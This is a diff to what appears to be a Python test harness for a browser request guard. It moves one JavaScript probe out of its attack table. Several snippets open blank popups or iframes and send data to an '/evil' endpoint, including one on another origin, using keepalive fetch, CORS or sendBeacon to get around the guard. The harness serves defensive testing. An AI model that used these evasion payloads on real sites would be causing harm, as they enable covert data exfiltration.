@@ -67,9 +67,6 @@ ATTACKS = {
     # ... and closed at once: the keepalive fetch outlives the popup.
     "blank-popup-closed": ("const w = window.open(''); w.fetch('/evil?via=popup-closed', {method: 'POST', body: 'x', "
                            "keepalive: true}); w.close();"),
-    # ... and kept: it posts later, long after the guard attached everything it could to it.
-    "blank-popup-later": ("const w = window.open(''); "
-                          "setTimeout(() => w.fetch('/evil?via=popup-later', {method: 'POST', body: 'x'}), 300);"),
     # ... and posts to another origin with a preflight (the site allows it: CORS headers on every answer).
     "blank-popup-cors": ("const w = window.open(''); w.fetch('{other}/evil?via=popup-cors', {method: 'POST', "
                          "headers: {'content-type': 'application/json', 'x-note': '1'}, body: '{}'});"),
@@ -77,6 +74,11 @@ ATTACKS = {
     "blank-iframe-beacon": ("const f = document.createElement('iframe'); document.body.append(f); "
                             "f.contentWindow.navigator.sendBeacon('/evil?via=iframe-beacon', 'x'); f.remove();"),
 }
+
+#: Not an attack of the set above (its plan waits after the click, so the guard is still on): a blank
+#: popup the click opens and makes post 300 ms later, long after the guard attached all it could to it.
+BLANK_POPUP_LATER = ("const w = window.open(''); "
+                     "setTimeout(() => w.fetch('/evil?via=popup-later', {method: 'POST', body: 'x'}), 300);")
 
 #: Not an attack: the click also opens a receipt in a blank popup (what it loads is a read). Recorded
 #: and replayed alike, it must replay to the end.
@@ -155,7 +157,8 @@ class ProbeSite:
             save, attack = NAVIGATIONS[self.variant], ""
         else:
             save = SAVE
-            attack = {"blank-popup": BLANK_POPUP, "receipt-popup": RECEIPT_POPUP}.get(self.variant) or ATTACKS[self.variant]
+            attack = {"blank-popup": BLANK_POPUP, "blank-popup-later": BLANK_POPUP_LATER,
+                      "receipt-popup": RECEIPT_POPUP}.get(self.variant) or ATTACKS[self.variant]
             attack = attack.replace("{other}", self.other)
         prelude = PRELUDES.get(self.variant)
         timer = f"<script>{prelude}</script>" if prelude else ""
